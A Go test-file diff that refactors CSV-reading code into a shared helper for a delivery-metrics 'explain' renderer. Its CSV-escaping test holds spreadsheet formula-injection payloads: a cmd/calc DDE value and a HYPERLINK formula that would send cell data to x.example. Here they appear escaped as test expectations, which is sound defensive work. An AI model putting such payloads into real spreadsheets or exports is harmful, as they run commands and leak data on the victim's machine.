@@ -46,6 +46,25 @@ func hostileExplained(t *testing.T, extra string) *compute.Explained {
 	return x
 }
 
+// explainCSV is the CSV of the rows behind the figure key of x, read
+// back.
+func explainCSV(t *testing.T, x *compute.Explained, key string, o render.ExplainOptions) [][]string {
+	t.Helper()
+	e, err := x.Of(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b bytes.Buffer
+	if err := render.ExplainCSV(&b, e, o); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(&b).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return recs
+}
+
 // explain prints, in each format, the rows exactly, and escapes in text
 // and CSV whatever would act on a terminal; JSON keeps the text and
 // escapes it as JSON.
@@ -73,14 +92,7 @@ func TestExplainFormats(t *testing.T) {
 		t.Errorf("text is not escaped, or not one line per row:\n%q", text.String())
 	}
 
-	var c bytes.Buffer
-	if err := render.ExplainCSV(&c, e, o); err != nil {
-		t.Fatal(err)
-	}
-	recs, err := csv.NewReader(&c).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
+	recs := explainCSV(t, x, "lead_time.p50_hours", o)
 	if strings.Join(recs[0], ",") != "rank,lead_time_hours,sha,deployment_id,deployed,counted,author,subject" || len(recs) != 3 ||
 		strings.Join(recs[1][:4], ",") != "1,2,c1,d1" || recs[2][7] != `Add\nline` {
 		t.Errorf("csv %q", recs)
@@ -263,22 +275,6 @@ policy:
 func TestExplainPolicyRows(t *testing.T) {
 	x := policyExplained(t, "behind the VPN", "full")
 	details := render.ExplainOptions{FindingDetails: true, Loc: time.UTC}
-	csvOf := func(key string, o render.ExplainOptions) [][]string {
-		t.Helper()
-		e, err := x.Of(key)
-		if err != nil {
-			t.Fatal(err)
-		}
-		var b bytes.Buffer
-		if err := render.ExplainCSV(&b, e, o); err != nil {
-			t.Fatal(err)
-		}
-		recs, err := csv.NewReader(&b).ReadAll()
-		if err != nil {
-			t.Fatal(err)
-		}
-		return recs
-	}
 	cell := func(recs [][]string, row int, col string) string {
 		for i, c := range recs[0] {
 			if c == col {
@@ -312,7 +308,7 @@ func TestExplainPolicyRows(t *testing.T) {
 		{"vulnerabilities.exposure.fix_to_production_p50_hours", details, 1, map[string]string{"rank": "1", "fix_to_production_hours": "122", "fix_shipped_at": "2026-03-10T12:00:00Z"}, nil},
 		{"deployment_frequency.source", details, 2, map[string]string{"source": "events"}, nil},
 	} {
-		recs := csvOf(tc.key, tc.o)
+		recs := explainCSV(t, x, tc.key, tc.o)
 		if len(recs) != tc.rows+1 {
 			t.Errorf("%s: %d rows, want %d:\n%q", tc.key, len(recs)-1, tc.rows, recs)
 			continue
@@ -400,24 +396,8 @@ func TestExplainCycleRows(t *testing.T) {
 	}
 	h := compute.NewHistory(f, config.Default(), time.UTC)
 	_, x := h.Explained(compute.YearMonth{Year: 2026, Month: time.March}.Period(time.UTC))
-	csvOf := func(key string, o render.ExplainOptions) [][]string {
-		t.Helper()
-		e, err := x.Of(key)
-		if err != nil {
-			t.Fatal(err)
-		}
-		var b bytes.Buffer
-		if err := render.ExplainCSV(&b, e, o); err != nil {
-			t.Fatal(err)
-		}
-		recs, err := csv.NewReader(&b).ReadAll()
-		if err != nil {
-			t.Fatal(err)
-		}
-		return recs
-	}
 	o := render.ExplainOptions{Loc: time.UTC}
-	pickup := csvOf("cycle_time.pickup_p50_hours", o)
+	pickup := explainCSV(t, x, "cycle_time.pickup_p50_hours", o)
 	want := [][]string{
 		{"rank", "pickup_hours", "coding_hours", "review_hours", "deploy_hours", "pull_id", "number", "opened", "first_commit", "ready", "first_review", "merged", "merge_sha", "deployment_id", "deployed"},
 		{"1", "2", "12", "24", "49", "gh-pull-1", "1", "2026-03-02T09:00:00Z", "2026-03-01T21:00:00Z", "2026-03-02T09:00:00Z", "2026-03-02T11:00:00Z", "2026-03-03T11:00:00Z", "m1", "D2", "2026-03-05T12:00:00Z"},
@@ -426,14 +406,14 @@ func TestExplainCycleRows(t *testing.T) {
 	if !slices.EqualFunc(pickup, want, slices.Equal) {
 		t.Errorf("pickup rows:\n%q\nwant\n%q", pickup, want)
 	}
-	if all := csvOf("cycle_time.pull_requests", render.ExplainOptions{Authors: true}); len(all) != 3 ||
+	if all := explainCSV(t, x, "cycle_time.pull_requests", render.ExplainOptions{Authors: true}); len(all) != 3 ||
 		strings.Join(all[0][:4], ",") != "coding_hours,pickup_hours,review_hours,deploy_hours" || all[0][len(all[0])-1] != "author" || all[2][len(all[2])-1] != "grace" {
 		t.Errorf("pull_requests rows: %q", all)
 	}
-	if coding := csvOf("cycle_time.coding_p50_hours", o); len(coding) != 2 || coding[1][1] != "12" || coding[1][5] != "gh-pull-1" {
+	if coding := explainCSV(t, x, "cycle_time.coding_p50_hours", o); len(coding) != 2 || coding[1][1] != "12" || coding[1][5] != "gh-pull-1" {
 		t.Errorf("coding rows: %q", coding)
 	}
-	squash := csvOf("lead_time.squash_resolved", o)
+	squash := explainCSV(t, x, "lead_time.squash_resolved", o)
 	if len(squash) != 2 || !slices.Contains(squash[0], "started_by") || squash[1][slices.Index(squash[0], "started_by")] != "gh-pull-1" {
 		t.Errorf("squash_resolved rows: %q", squash)
 	}
@@ -476,14 +456,7 @@ func TestExplainCSVStartsNoFormula(t *testing.T) {
 		t.Fatal(err)
 	}
 	o := render.ExplainOptions{Authors: true, Loc: time.UTC}
-	var c bytes.Buffer
-	if err := render.ExplainCSV(&c, e, o); err != nil {
-		t.Fatal(err)
-	}
-	recs, err := csv.NewReader(&c).ReadAll()
-	if err != nil {
-		t.Fatal(err)
-	}
+	recs := explainCSV(t, x, "lead_time.p50_hours", o)
 	want := []string{"1", "1.5", "c1", `'-2+3+cmd|' /C calc'!A0`, "2026-03-02T10:00:00Z", "yes", "'@evil <e@example.com>", `'=HYPERLINK("https://x.example/?"&A1)`}
 	if len(recs) != 2 || !slices.Equal(recs[1], want) {
 		t.Errorf("csv rows %q, want %q", recs, want)
